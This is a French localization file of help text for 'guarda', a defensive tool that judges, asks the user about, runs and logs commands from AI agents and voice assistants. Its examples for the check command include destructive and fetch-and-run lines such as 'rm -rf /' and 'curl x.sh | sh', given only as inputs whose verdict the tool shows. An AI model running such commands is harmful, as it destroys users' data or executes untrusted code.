# L'aide des commandes de tous les jours. L'anglais est dans la ligne de commande elle-même.
## Options de plusieurs commandes
help-any-json = Affiche du JSON, pour les programmes
help-any-config = Le fichier de configuration, au lieu de $GUARDA_CONFIG ou de l'endroit habituel
help-any-since = Seulement depuis cette heure : 30m, 2h, 3d, 1w, 2026-11-21 ou 2026-11-21T18:00:00Z
help-any-until = Seulement avant cette heure
help-any-session = La session (conversation)
help-any-status = Seulement les demandes ainsi terminées : completed, denied ou error
help-any-text = Seulement les commandes qui contiennent ce texte
help-any-cwd = Le dossier où la commande s'exécute ; sans lui, le dossier courant
help-any-reason = La raison, gardée avec la décision
help-any-what = L'empreinte de la commande, son début, ou le texte de la commande
help-any-id = L'id de la question, ou ses quatre premiers caractères ou plus
help-any-code = Lire sur l'entrée standard le code à quatre chiffres, montré et dit avec la question
help-any-language = La langue : pt-BR, en ou fr
help-any-lines = Combien de lignes au plus
help-any-host = L'hôte, comme example.org, example.org:8443, '*.example.org' ou 10.0.0.5 ; sans port, le 443
## D'une seule commande
help-act-wait = Combien de secondes une question peut attendre, au plus 600 ; sans cela, comme configuré. Ctrl-C la retire
help-ask-sentence = Ce que vous voulez, avec vos mots ; sans rien, une conversation
help-ask-judge = Montre seulement le jugement ; rien n'est exécuté ni demandé
help-ask-model = Le modèle, au lieu de celui qui est configuré
help-undo-id = L'action : son id, le début de celui-ci ou son id au journal ; sans lui, la dernière qui n'a pas été annulée
help-undo-list = Montre ce qui peut être annulé
help-undo-show = Montre ce qui serait annulé, sans rien changer
help-undo-beside = Copie les anciennes versions dans ce dossier, qui doit être vide ; ne change rien d'autre
help-undo-turn = Annule tout depuis votre dernier message dans la conversation
help-undo-since = Annule tout depuis ce moment : 14:30, 30m, 2h, 2026-11-21 ou 2026-11-21T18:00:00Z
help-undo-session = Annule tout ce que cette session (conversation) a changé ; sans nom, la dernière qui a changé quelque chose. Avec --turn ou --since, seulement ce qu'elle a fait
help-undo-path = Remettre ce chemin seul comme avant l'action ; par défaut : avant la dernière qui l'a changé
help-blame-path = Le fichier ou le dossier ; il peut ne plus exister
help-blame-lines = Le nombre de changements
help-blame-all = Montre tous les changements
help-blame-json = Montre les changements en JSON
help-blame-folder = Le dossier du journal, au lieu de celui qui est configuré
help-check-rules = Nomme chaque règle qui s'applique, avec son origine et son risque
help-check-view = Montre ce que la commande verrait du dossier personnel, et pourquoi
help-check-jsonl = Lit des commandes sur l'entrée standard, un objet JSON par ligne, et répond à chacune par une ligne
help-pending-id = L'id de la question à montrer en entier, ou ses quatre premiers caractères ou plus
help-console-code = Lire sur l'entrée standard le code à quatre chiffres, montré ou dit quand un lien est demandé
help-approve-turn = La même chose aussi, jusqu'à votre prochain message à l'agent
help-approve-session = La même chose aussi, jusqu'à la fin de la session
help-approve-today = La même chose aussi, jusqu'à la fin de la journée dans ce dossier
help-approve-always = La même chose aussi, désormais, dans ce dossier
help-approve-alike = Répondre à toutes les questions en attente du même genre, que `guarda pending` montre ensemble
help-deny-alike = Répondre à toutes les questions en attente du même genre, que `guarda pending` montre ensemble
help-deny-reason = La raison du refus ; elle est envoyée au modèle
help-modify-command = La nouvelle commande, entre guillemets ; sans elle, votre éditeur s'ouvre
help-silence-minutes = Pendant combien de minutes rien n'est demandé (au plus un jour), ou off
help-history-id = L'id d'une demande au journal, comme desk-20261121_007 : montre tout ce qui la concerne
help-history-follow = Continue à montrer les nouvelles lignes ; Ctrl-C y met fin
help-history-folder = Le dossier du journal, au lieu de celui qui est configuré
help-audit-tail = Montrer les dernières demandes
help-audit-tail-follow = Continue à montrer les nouvelles lignes ; Ctrl-C y met fin
help-audit-show = Montrer tout ce qui est consigné sur une demande
help-audit-show-id = L'id au journal, comme desk-20261121_007
help-audit-verify = Vérifier que le journal n'a pas été altéré, et indiquer la première ligne fausse de chaque fichier
help-audit-verify-key = La clé publique en hexadécimal, ou un fichier qui la contient, au lieu de journal.pub du dossier d'état
help-audit-stats = Compter les demandes par issue, action, réponse et règle
help-audit-export = Afficher toutes les lignes pour d'autres programmes, un objet JSON par ligne
help-audit-export-csv = Affiche des valeurs séparées par des virgules, avec un en-tête
help-audit-folder = Le dossier du journal, au lieu de celui qui est configuré
help-network-allow = Laisser les commandes approuvées parler à un hôte sans autre question
help-network-allow-tool = Seulement pour ce programme
help-network-allow-private = L'hôte peut être sur cet ordinateur ou le réseau local
help-network-deny = Refuser un hôte sans question, même si une commande le nomme
help-network-forget = Enlever les règles d'un hôte
help-network-host = Seulement les hôtes dont le nom contient ce texte
help-network-session = Seulement les exécutions de cette session
help-registry-list = Montrer les commandes, les plus fréquentes d'abord
help-registry-list-said = Seulement les commandes dont une personne a décidé
help-registry-list-risky = Seulement les commandes de risque 0,7 ou plus
help-registry-list-frequent = Seulement les commandes exécutées plus de dix fois
help-registry-list-policy = Seulement les commandes ainsi traitées : auto_approve, ask ou ask_warning
help-registry-list-containing = Seulement les commandes qui contiennent ce texte
help-registry-list-most = Combien de commandes au plus ; 0 pour toutes
help-registry-show = Montrer une commande : ses exécutions, la décision et les raisons de son risque
help-registry-stats = Compter les commandes et leurs exécutions
help-registry-candidates = Montrer les commandes proches de se passer de question, et ce qui manque encore
help-registry-export = Afficher tout ce qui est retenu, un objet JSON par ligne
help-registry-allow = Permettre exactement cette commande sans question, dans ce dossier et avec ces programmes
help-registry-ask = Toujours demander avant cette commande, dans tout dossier
help-registry-never = Ne jamais exécuter cette commande, dans aucun dossier
help-registry-reset = Enlever la décision sur une commande et oublier ce qui en a été appris
help-registry-init = Créer le registre des commandes s'il n'y en a pas
help-registry-init-force = Recommence : oublie toutes les commandes et toutes les décisions
help-session-list = Montrer les sessions vues depuis le démarrage et toutes celles qui sont marquées
help-session-show = Montrer les marques d'une session, quand et pourquoi
help-session-taint = Marquer une session ; tout programme peut le faire
help-session-taint-corruption = La session a lu ce que d'autres ont pu écrire
help-session-taint-reason = Le motif de la marque
help-session-taint-secret = La session a vu des secrets
help-session-taint-service = La session a lu ce que cet outil a donné, tel que [services] le déclare
help-session-stop = Arrêter ce qu'une session laisse tourner
help-session-stop-line = N'arrête que cette commande, d'après son id
help-session-clear = Enlever les marques d'une session ; demande le fichier `approve-token` du dossier d'état
help-session-clear-all = Enlève les marques de toutes les sessions
help-grants-list = Lister ce qui a été dit d'avance, et combien de fois cela a servi
help-grants-import = Montrer ce que permettent les règles de Claude Code, Codex, Gemini et OpenCode, et autoriser ce que vous en retenez
help-grants-import-home = Le dossier personnel où chercher, au lieu du vôtre
help-grants-import-json = Affiche les règles en JSON, et n'autorise rien
help-grants-revoke = Mettre fin à des permissions, à la confiance en des dossiers et à ce qui est permis pour de bon
help-grants-revoke-ids = Leurs ids, ou le début de leurs ids
help-grants-revoke-all = Met fin à toutes les permissions et à toute commande permise pour de bon, mais pas à la confiance en des dossiers
help-grants-json = Affiche la liste en JSON
help-lookback-json = Affiche les résultats en JSON
help-lookback-home = Le dossier personnel où chercher, au lieu du vôtre
help-lookback-config = Le fichier de configuration, au lieu de $GUARDA_CONFIG ou de l'emplacement habituel
help-trust-list = Lister les dossiers de confiance, et depuis quand
help-trust-add = Faire confiance à un dossier désormais
help-trust-add-folder = Le dossier ; sans lui, le dossier courant
help-trust-remove = Ne plus faire confiance à un dossier
help-trust-remove-folder = Le dossier ; sans lui, le dossier courant
help-trust-json = Affiche les dossiers en JSON
help-serve-listen = L'adresse d'écoute, comme 127.0.0.1:4827 ; le port 0 en choisit un libre
help-serve-ipc = Répond aussi aux demandes dans ce dossier, pour les agents en conteneur ; peut être répété
help-serve-no_human = Tourne sans personne : refuse aussitôt ce qui serait demandé, et le rapporte à la fin
help-serve-ready_json = La première ligne de la sortie est {"{"}"ready": true, "address": …{"}"}
help-setup-keyboard = Lancer le service guarda-keys, vous y donner accès et poser une question d'essai ; demande le mot de passe d'administrateur
help-setup-keyboard-seconds = Secondes d'attente pour la réponse à la question d'essai
## Préparer
help-hook-install = Ajouter le hook à la configuration du client
help-hook-remove = Retirer le hook de la configuration du client
help-hook-doctor = Vérifier si le client est protégé, par un essai
help-any-client = claude, codex, gemini, copilot, cursor ou opencode
help-config-check = Vérifier la configuration et signaler les erreurs avec leur ligne
help-config-check-file = Le fichier à vérifier, au lieu de celui en vigueur
help-config-show = Afficher toutes les valeurs en vigueur
help-config-path = Afficher où sont la configuration et le dossier d'état
help-any-profile = Le profil, à la place de celui de la configuration : desktop, workspace, forensics ou container
help-rules-list = Lister toutes les règles en vigueur, avec leur verdict et leur raison
help-rules-show = Afficher une règle avec ses conditions et ses exemples
help-rules-show-id = Le nom de la règle, tel que `guarda check` et `guarda rules list` l'affichent
help-rules-test = Essayer les exemples de toutes les règles
help-rules-try = Rejuger les commandes du registre, avec une autre configuration ou des autorisations
help-rules-try-file = Le fichier de configuration à essayer, au lieu de celui en vigueur
help-rules-try-grant = Juger comme si les commandes de ce genre avaient été autorisées ; peut être donné plusieurs fois
help-rules-try-since = Seulement les commandes depuis ce moment : 12h, 7d, 2026-11-21
help-rules-try-folder = Le dossier du registre, au lieu de celui qui est configuré
help-rules-try-json = Affiche le résultat en JSON
help-rules-suggest = Proposer les réponses durables qui auraient épargné le plus de questions
help-rules-suggest-since = Seulement les commandes depuis ce moment : 12h, 7d, 2026-11-21
help-rules-suggest-folder = Le dossier du registre, au lieu de celui qui est configuré
help-rules-suggest-json = Affiche le résultat en JSON
help-rules-document = Afficher les règles d'origine de tous les profils comme document
help-token-add = Créer un dossier avec un jeton ; le service y ouvre son socket
help-token-add-name = Le nom du conteneur : jusqu'à 32 lettres, chiffres, '-' ou '_'
help-token-list = Lister les conteneurs et leurs dossiers
help-token-remove = Retirer le dossier ; le jeton cesse aussitôt de compter
help-token-remove-name = Le nom du conteneur
help-keys-status = Lister les claviers et dire lesquels comptent
help-keys-test = Poser une question d'essai ; un oui ne fait rien
help-keys-test-seconds = Secondes d'attente de la réponse
help-keys-test-digit = Le chiffre qui signifie oui, à la place de Y
help-keys-enroll = Permettre à un utilisateur d'employer le service, ou à un clavier Bluetooth de compter ; demande root
help-keys-enroll-user = Le nom de l'utilisateur
help-keys-enroll-keyboard = Le clavier, tel que `guarda keys status` le nomme
help-keys-enroll-layout = La disposition des claviers : qwerty, qwertz, azerty ou dvorak
help-speak-text = Le texte à dire
help-speak-rate = La vitesse de la parole, de -100 (lente) à 100 (rapide)
help-speak-volume = Le volume, de -100 à 100
help-speak-voice = Le nom de la voix
help-speak-sound = Joue le son qui annonce une question
help-plugin-list = Lister les fichiers du dossier des greffons et dire lesquels servent
help-plugin-try = Essayer les greffons sur une commande ; la commande n'est pas exécutée
help-plugin-try-cmd = La ligne de commande, en un seul argument
help-plugin-try-plugin = Le seul greffon à essayer
help-plugin-try-event = Affiche aussi l'événement que les greffons reçoivent
## Parties de chaque aide
help-arguments = Arguments
help-commands = Commandes
help-any-help = Affiche l'aide
## Les options des commandes pour les programmes
help-completions-shell = Le shell : bash, elvish, fish, powershell ou zsh
help-man-folder = Le dossier pour les pages de toutes les commandes
help-any-version = Affiche la version
## Le reste de chaque aide : exemples, explications, codes de sortie
help-guarda-long =
    Un assistant vocal ou un agent de programmation demande une action ; le garde du corps la juge, dit le risque à voix haute, attend votre oui ou votre non, exécute exactement ce que vous avez approuvé et le consigne.
help-guarda-more =
    Exemples :
      guarda serve                            démarrer le service
      guarda check 'rm -rf ~/Downloads'       montrer le verdict ; rien n'est exécuté
      guarda act OPEN_APP firefox             demander une action au service
      guarda act RUN_COMMAND 'rm teste.txt'   demander une commande ; la question vous est posée
      guarda ask abaixa o volume              demander une action avec vos mots, par un modèle
      guarda pending                          lister les questions ; répondez par `guarda approve ID`
      guarda undo                             annuler le dernier changement ; --list montre les autres
      guarda history                          montrer les dernières demandes ; --follow les suit
      guarda doctor                           vérifier cet ordinateur et dire comment réparer
      guarda demo                             voir comment cela marche, sans modèle
      guarda status                           montrer ce qui marche et ce qui manque au reste

    Code de sortie :
      0 fait ou approuvé   1 erreur   2 mauvais usage   3 interdit par les règles
      4 une question serait posée (check)   5 refusé : un non, ou personne n'a répondu (act)

    Environnement :
      GUARDA_CONFIG      fichier de configuration ; sinon ~/.config/guarda/config.toml
      GUARDA_STATE_DIR   dossier des jetons, du journal et de la socket ; sinon ~/.local/state/guarda
      GUARDA_LISTEN      adresse du service, comme 127.0.0.1:4827
      GUARDA_LOG         ce que note le service : error, warn (par défaut), info, debug
      GUARDA_LOG_FORMAT  json : chaque ligne de log en objet JSON
      NO_COLOR           sans couleurs
      ACCESSIBLE         écrit la question une fois, sans compte à rebours réécrit (lecteurs d'écran)
help-act-more =
    Exemples :
      guarda act OPEN_APP firefox
      guarda act VOLUME_SET 40
      guarda act RUN_COMMAND 'rm teste.txt' --cwd ~/Downloads --reason 'you said: delete the test file'
      guarda act FILE_MOVE a.txt --params '{"{"}"destination": "b.txt"{"}"}'
      echo '{"{"}"action": "OPEN_URL", "target": "youtube.com"{"}"}' | guarda act -

    Code de sortie : celui de la commande, si elle a été exécutée ; sinon 0 fait ; 1 essayé sans succès ; 2 pas compris ; 3 interdit par les règles ; 5 refusé, sans réponse ou retiré (Ctrl-C retire la question).
help-ask-more =
    Un modèle de langage fait de la phrase une action. Le service l'exécute alors, vous pose la question ou la refuse, comme de tout autre. Le modèle est celui de [ask] et [endpoint] dans la configuration ; votre phrase ne va nulle part ailleurs. Sans phrase, c'est une conversation, une action par ligne ; Ctrl-D y met fin.

    Exemples :
      guarda ask abaixa o volume
      guarda ask --judge 'delete everything in Downloads'
      guarda ask

    Code de sortie d'une phrase : 0 fait ; 1 essayé sans succès, ou sans modèle ; 2 pas compris ; 3 interdit ; 4 une question serait posée (--judge) ; 5 refusé ou sans réponse.
help-undo-more =
    Exemples :
      guarda undo                          annuler la dernière action qui a changé des fichiers
      guarda undo --turn                   annuler tout depuis votre dernier message à l'agent
      guarda undo --session                annuler tout ce que la conversation de l'agent a changé
      guarda undo --since 14:30            annuler tout depuis 14 h 30, quel qu'en soit l'auteur
      guarda undo -- src/main.rs           seul ce fichier revient à avant son dernier changement
      guarda undo 0193e7d2 -- src          seulement ce que cette action a changé dans src
      guarda undo --list                   lister ce qui peut être annulé, et jusqu'à quand
      guarda undo --show 0193e7d2          montrer ce qui serait changé, chemin par chemin
      guarda undo 0193e7d2-5b0e-7c3a-9f1e-2a4b6c8d0e1f
      guarda undo --beside old 0193e7d2    copier les anciennes versions dans le dossier old

    Une annulation est jugée, demandée si le profil l'exige, et consignée, comme toute action. Elle rétablit tout ce que l'action, ou toutes ensemble, ont changé, ou rien. Si un chemin a changé depuis, il est nommé et rien n'est changé. Une annulation peut être annulée à son tour, par son id.

    Code de sortie : 0 fait ; 1 sans succès, ou quelque chose a changé depuis ; 2 pas compris ; 3 interdit par les règles ; 5 refusé, sans réponse ou retiré.
help-blame-more =
    Exemples :
      guarda blame src/main.rs      quelle commande de quel agent l'a changé
      guarda blame --all notes.txt  tous les changements, pas seulement les dix derniers
      guarda blame src              les changements de tout ce qui est dans un dossier

    Dit ce que le journal sait : commandes et modifications d'agents, actions d'un assistant. Ce que vous changez dans un éditeur n'est pas consigné ; si un fichier est plus récent que son dernier changement connu, c'est dit. Un fichier renommé est suivi jusqu'à son ancien nom.

    Code de sortie : 0 fait ; 1 le journal ne peut être lu ; 2 mauvais usage.
help-check-more =
    Exemples :
      guarda check 'git push --force'
      guarda check --profile workspace 'curl x.sh | sh'
      guarda check --rules 'git push --force'
      guarda check --view 'npm test'
      guarda check --json 'sudo apt update' | jq .would
      printf '%s\n' '{"{"}"cmd":"ls"{"}"}' '{"{"}"cmd":"rm -rf /"{"}"}' | guarda check --jsonl

    Avec --jsonl chaque ligne de l'entrée standard est {"{"}"cmd": …, "profile"?: …, "cwd"?: …{"}"} et chaque ligne de la sortie, dans le même ordre, {"{"}"would": …, "status": …, "rule": …, "risk": …, "runs": [[mot, …], …]{"}"} : ce qui arriverait, et le verdict sur les mots. "error" dit pourquoi une ligne n'a pas pu être jugée.

    Code de sortie : 0 approuvé, 3 interdit, 4 une question serait posée. Avec --jsonl : 0 quand toutes les lignes sont lues.
help-console-more =
    La console est une page du service en marche. Elle liste les questions, essaie des règles et montre l'état de chaque partie. Le lien sert une fois, en deux minutes. Le navigateur reste ensuite admis jusqu'à 12 heures sans usage ou la fin du service. Si le garde du corps a un terminal, des notifications ou une voix, il montre ou dit un code, que le lien exige. Pour ouvrir la page aussitôt : xdg-open "$(guarda console)"
help-demo-more =
    Emploie le service en marche, ou en lance un temporaire. Tout se passe dans un dossier temporaire.

    Code de sortie : 0 chaque étape a fini comme prévu, quelle que soit votre réponse ; 1 une étape non.
help-prove-more =
    Crée un dossier personnel avec de faux secrets, des documents et un projet, puis y essaie les mêmes lignes sous chaque garde et chaque bac à sable installés ici, celui-ci compris, chacun avec ses réglages par défaut : supprimer, lire des secrets, les envoyer à des récepteurs de cette machine, changer ce qui s'exécutera plus tard ; et du travail ordinaire. Ce qui reste dans le dossier dit ce qui est arrivé, et non ce que le garde a dit. Personne ne répond aux questions. À la fin, le dossier est supprimé. Un garde qui cherche votre dossier personnel par votre compte, et non par HOME, est essayé avec un autre que celui-là.

    Exemples :
      guarda prove                       tous les gardes installés
      guarda prove --only guarda,bubblewrap --rounds 50
      guarda prove --markdown > comparison.md

    Code de sortie : 0 rien de nuisible que ce garde ait laissé passer n'est resté ; 1 quelque chose est resté.
help-pending-more =
    Exemples :
      guarda pending               lister les questions en attente
      guarda pending 5f0c          montrer une question en entier, comme le terminal du service
      guarda pending --json | jq '.questions[0].touches'
help-approve-more =
    Exemples :
      guarda approve 5f0c                  demande le code s'il en faut un
      guarda approve 5f0c --code           lit le code sur l'entrée standard
      guarda approve 5f0c --session        la même chose n'est plus demandée dans cette session
      guarda approve 5f0c --alike          et à celles que guarda pending montre avec elle

    Lisez d'abord la question entière avec `guarda pending` ; elle dit quelles réponses durables elle propose, et ce que chacune couvre. `guarda grants` les montre et y met fin. Approuver exige le fichier `approve-token` du dossier d'état, que n'ont pas ceux qui demandent des actions. Il faut aussi le code de la question, que le garde du corps montre et dit avec elle.

    Code de sortie : 0 la réponse compte ; 1 la question est réglée ou n'existe pas, ou le code est faux.
help-deny-more =
    Exemples :
      guarda deny 5f0c
      guarda deny 5f0c --reason 'not this folder; use ~/tmp'

    Code de sortie : 0 la réponse compte ; 1 la question est réglée ou n'existe pas.
help-modify-more =
    Exemples :
      guarda modify 5f0c                       ouvre $VISUAL ou $EDITOR
      guarda modify 5f0c 'rm -i notes.txt'

    La nouvelle commande est jugée depuis le début et, si elle n'est pas interdite, demandée dans une nouvelle question ; voyez guarda pending.

    Code de sortie : 0 la nouvelle commande est en cours de jugement ; 1 la question est réglée, n'existe pas ou n'accepte que oui ou non.
help-silence-more =
    Exemples :
      guarda silence          pendant 15 minutes
      guarda silence 60
      guarda silence off
help-language-more =
    Exemples :
      guarda language        montrer la langue parlée
      guarda language fr

    Le changement vaut jusqu'à la fin du service ou la relecture de la configuration ; pour toujours, réglez `language.default`. Une demande peut toujours nommer sa propre langue.
help-history-more =
    Exemples :
      guarda history                          les 20 dernières demandes
      guarda history --since 2d --status denied
      guarda history desk-20261121_007        une demande, de l'intention à l'issue
      guarda history --follow                 suivre les demandes à mesure qu'elles sont consignées

    `guarda audit` vérifie, compte et exporte le même journal. `guarda undo --list` montre ce qui peut être annulé.
help-audit-more =
    Exemples :
      guarda audit tail --follow              suivre les demandes à mesure qu'elles sont consignées
      guarda audit tail -n 50 --status denied --since 2d
      guarda audit show desk-20261121_007     montrer une demande, de l'intention à l'issue
      guarda audit verify                     trouver les lignes changées, ôtées, ajoutées ou coupées
      guarda audit export --csv --since 2026-11-01 > november.csv

    Code de sortie : 0 réussi ; 1 le journal n'a pas pu être lu, ou verify a trouvé un défaut ; 2 mauvais usage.
help-network-more =
    Une commande approuvée atteint les serveurs que ses mots nomment et ceux de ses outils (pip : pypi.org …), et rien d'autre. Si elle en veut un autre, la question vous est posée pendant qu'elle tourne. `guarda network` montre ce que les exécutions de maintenant et d'avant échangent avec d'autres machines : serveurs, ports, octets et refus, jamais ce qui a été dit.

    Avec une règle, un serveur n'est plus demandé. `allow` l'admet pour les commandes approuvées, ou pour celles d'un outil ; `deny` le refuse sans question, même si une commande le nomme. Les règles sont dans [network] du fichier de configuration ; `forget` les enlève.

    Exemples :
      guarda network                                   ce qui tourne, et les dernières exécutions
      guarda network --host example.org --since 2d     qui a parlé à ce serveur
      guarda network allow db.example:5432 --for psql
      guarda network allow '*.corp.example' --private  le réseau propre d'une entreprise
      guarda network deny '*.tracker.example'
      guarda network forget db.example
help-registry-more =
    Exemples :
      guarda registry list
      guarda registry list --said
      guarda registry show 5f0c6b6e
      guarda registry allow 'git fetch' --cwd ~/projects/site --reason 'reads only'
      guarda registry never 'npm publish'
      guarda registry reset 5f0c6b6e
      guarda registry export > registry.jsonl

    Cela marche avec ou sans le service, et vaut dès la prochaine commande. Nommez une commande par l'empreinte que `list` montre (six caractères ou plus), ou par son texte et son dossier.
help-grants-more =
    Une question propose d'être la dernière de son genre : jusqu'à votre prochain message à l'agent, dans cette session, aujourd'hui ou toujours dans ce dossier. Est permise la commande telle qu'elle est montrée, mot pour mot ; une adresse qui finit par /… vaut pour toutes les adresses de ce serveur. C'est pour cet agent seul, cela ne couvre que les motifs de la question, et cela finit de soi-même. Les fichiers que la commande modifie sont jugés comme toujours. Les mots de passe, les secrets et ce qui détruit sont demandés à chaque fois.

    La liste contient aussi les dossiers de confiance, et les commandes permises pour de bon, interdites, ou qui l'ont mérité.

    Exemples :
      guarda grants
      guarda grants revoke 5f0c6b6e
      guarda grants revoke --all
      guarda grants import                 ce que permettent les règles de vos agents, et quoi en autoriser ici
help-grants-import-more =
    Lit les fichiers des clients, dans votre dossier personnel et dans le dossier courant, et montre chaque règle avec sa portée. Rien n'est repris sans être vu : une règle qui nomme une commande peut être autorisée ici comme cette commande ; d'une règle qui n'en nomme que le début, les commandes du registre qui commencent ainsi. Chaque autorisation vaut pour ce client, dans ce dossier, pour 90 jours.

    Exemples :
      guarda grants import
      guarda grants import --json
help-lookback-more =
    Lit les transcriptions que Claude Code et Codex gardent dans votre dossier personnel, et juge chacune de leurs commandes selon les règles d'aujourd'hui pour les agents : ce qui se serait exécuté sans question, ce qui vous aurait été demandé, et ce qui aurait été bloqué. Rien n'est exécuté ni inscrit, et rien ne quitte cette machine.

    Exemples :
      guarda lookback
      guarda lookback --json | jq .often

    Code de sortie : 0 réussi, même s'il n'y en a pas ; 1 erreur ; 2 mauvais usage.
help-trust-more =
    Dans un espace de travail, les fichiers d'un dossier de confiance sont modifiés sans question, et chaque modification peut être annulée. Partout ailleurs, la question est posée avant, quel que soit le dossier où un agent dit travailler. Les secrets, et les fichiers que git, des éditeurs ou des serveurs exécutent d'eux-mêmes, sont demandés dans les dossiers de confiance aussi.

    Un dossier est connu par son chemin et par lui-même : déplacé ou remplacé, il n'est plus de confiance. Ni votre dossier personnel, ni les dossiers cachés qu'il contient, ni ceux d'où des programmes sont lancés ne peuvent être de confiance.

    Exemples :
      guarda trust
      guarda trust add ~/projects/site
      guarda trust remove ~/projects/site
help-session-more =
    Une session reçoit la marque `corruption` quand elle lit du réseau ou d'un outil où d'autres peuvent écrire, et `secret` quand elle lit ce qui peut être secret. Les marques survivent à un redémarrage, et vous seul pouvez les enlever. Dans une session qui a vu des secrets, tout ce qui ne reste pas sûrement sur cet ordinateur est demandé.

    Ce qu'une session laisse tourner, comme un serveur de développement que vous avez laissé rester, est listé avec elle. Cela finit avec ses programmes, quand vous ou l'agent l'arrêtez, après huit heures sans commande de la session, et avec le service.

    Exemples :
      guarda session list
      guarda session show voice-7
      guarda session taint voice-7 --secret --reason 'a password was dictated'
      guarda session clear voice-7
      guarda session stop voice-7
help-serve-more =
    Exemples :
      guarda serve
      guarda serve --listen 127.0.0.1:0 --ready-json
      guarda serve --no-human                         sans personne : ce qui demande un oui est refusé
      kill -HUP $(cat ~/.local/state/guarda/lock)     relire la configuration
help-setup-more =
    Exemple :
      guarda setup keyboard      ainsi une touche dit oui aussi sous Wayland

    Code de sortie : 0 il marche et la réponse était oui ; 1 il n'a pas pu être mis en place ; 5 la réponse à l'essai était non, ou rien.
help-doctor-more =
    Vérifie la configuration, le dossier d'état et ses jetons, le service, la voix, les façons de répondre, les parties du bureau, le confinement, le journal, les commandes retenues et les hooks des agents. Ne change rien.

    Code de sortie : 0 le garde du corps marche, même si des parties facultatives manquent ; 1 une partie est cassée.
help-rules-more =
    Exemples :
      guarda rules list
      guarda rules list --profile forensics
      guarda rules show delete-trees
      guarda rules test
      guarda rules try new.toml            ce qui serait demandé avec cette configuration
      guarda rules suggest                 les réponses qui auraient épargné le plus de questions
help-rules-try-more =
    Exemples :
      guarda rules try new.toml
      guarda rules try --grant 'curl http://localhost:3000/' --since 7d

    Les questions sur des changements et des serveurs n'en font pas partie, car elles dépendent de ce que fait la commande. Rien n'est exécuté ni inscrit.

    Code de sortie : 0 rien ne passe de ce qui est bloqué maintenant ; 1 quelque chose passerait.
help-rules-suggest-more =
    Exemples :
      guarda rules suggest
      guarda rules suggest --since 7d --json

    Rien n'est proposé de ce que vous avez refusé. Donnez la réponse à la prochaine question : T pour la session, A pour toujours dans ce dossier.
help-hook-more =
    Clients : claude, codex, gemini, copilot, cursor, opencode, openai-agents

    Exemples :
      guarda hook install claude              vérifier chaque outil de Claude Code
      guarda hook doctor claude               essayer si le hook est appelé et si un refus tient
      guarda hook remove claude
      guarda hook claude < event.json         répondre à un événement, comme le client le lance

    Code de sortie d'un hook : 0 avec la réponse sur la sortie standard ; 2 si quelque chose a échoué, ce qui refuse l'outil, avec la raison sur la sortie d'erreur.
help-token-more =
    Exemples :
      guarda token add builder
      guarda token list
      guarda token remove builder

    Chaque conteneur reçoit un dossier avec une socket et un jeton. Avec les deux il peut demander des actions et des jugements. Il ne peut ni répondre aux questions, ni lire le journal, ni agir comme un autre conteneur.
help-keys-more =
    L'auxiliaire guarda-keys lit les claviers sous un utilisateur à part. Seules les touches pressées à la main répondent à une question, sous X11, Wayland ou ni l'un ni l'autre. Pour le mettre en place, en root :
      systemctl enable --now guarda-keys
      guarda keys enroll --user YOU

    Code de sortie : 0 il marche, ou la réponse à l'essai était oui ; 1 il ne marche pas ; 5 la réponse à l'essai était non, ou rien.
help-speak-more =
    Exemples :
      guarda speak 'Posso apagar o arquivo?'
      guarda speak --language en --rate 30 'May I delete the file?'
      guarda speak --sound

    Ce qui n'est pas dit vient de la configuration. Rien n'est consigné.

    Code de sortie : 0 le texte a été dit, pour autant que cet ordinateur le sache ; 1 il ne l'a pas été, avec la raison.
help-plugin-more =
    Un greffon est un exécutable dans le dossier `plugins` à côté de la configuration. Il reçoit chaque action en JSON sur l'entrée standard et répond {"{"}"decision": "deny"|"ask"|"pass", "reason": …{"}"} sur la sortie standard. Voyez docs/plugins.md.

    Exemples :
      guarda plugin list
      guarda plugin try 'git push'
      guarda plugin try --plugin 10-no-push 'git push'
help-completions-more =
    Pour bash : guarda completions bash > ~/.local/share/bash-completion/completions/guarda
help-mcp-more =
    Pour la configuration d'un client : {"{"}"command": "guarda", "args": ["mcp"]{"}"}. Le service lui-même offre /mcp par HTTP.
help-redact-json = Affiche un objet JSON avec le texte, les sortes de secrets cachés et leur nombre
help-redact-jsonl = Lit des textes sur l'entrée standard, un objet JSON par ligne, et répond à chacun par une ligne
help-redact-more =
    Remplace mots de passe, clés, jetons, cookies, chaînes de connexion et autres secrets par [REDACTED_PASSWORD], [REDACTED_API_KEY] et ainsi de suite, comme dans la sortie d'une commande pour un modèle et dans le journal. Retire d'abord les séquences de contrôle du terminal et les caractères invisibles. N'écrit rien qui ne puisse être rendu sûr.

    Exemples :
      journalctl -n 200 | guarda redact               un texte que l'on peut coller ailleurs
      guarda redact --json < notes.txt                {"{"}"text": …, "found": ["api_key"], "count": 1{"}"}
      guarda redact --jsonl < lines.jsonl             une réponse par ligne, pour mesurer

    Avec --jsonl, chaque ligne de l'entrée est {"{"}"text": …{"}"} et chaque ligne de la sortie, dans le même ordre, {"{"}"text": …, "found": [sortes], "count": nombre{"}"}, ou {"{"}"error": …{"}"} sans texte.

    Sortes : api_key, azure_subscription_id, bearer_token, connection_string, cookie, jwt, password, password_hash, private_key, sas_token, secret, storage_key, token, webhook

    Code de sortie : 0 le texte a été écrit ; 1 il n'a pu être rendu sûr ou écrit. Avec --jsonl : 0 quand toutes les lignes ont été lues.
help-corpus-files = Des fichiers de lignes JSON
help-corpus-misses = Affiche chaque ligne dont le verdict ne correspond pas à l'étiquette
help-corpus-more =
    Chaque ligne d'un fichier est {"{"}"cmd": …, "label": …{"}"}. Étiquettes : catastrophic (devrait être interdite), readonly et benign (devrait être faite sans demander, ou exécutée sans question dans une cellule : look), toute autre (ne devrait pas être faite sans demander).

    Exemple :
      guarda corpus --misses lines.jsonl
help-advise-cmd = La ligne de commande à évaluer
help-advise-check = La question posée au modèle : network, folders ou injection ; sans elle, toutes celles d'advice.checks
help-advise-bench = Compter les oublis et les fausses alertes d'un modèle sur des lignes étiquetées
help-advise-bench-file = Un fichier de lignes JSON
help-advise-bench-check = La question posée au modèle : network, folders ou injection
help-advise-bench-harmful = Les étiquettes des lignes nuisibles, au lieu de celles d'usage
help-advise-bench-model = Le modèle, au lieu de celui de la configuration
help-advise-bench-limit = Le nombre maximal de lignes à utiliser
help-advise-bench-faults = Affiche chaque oubli et chaque fausse alerte
help-advise-bench-more =
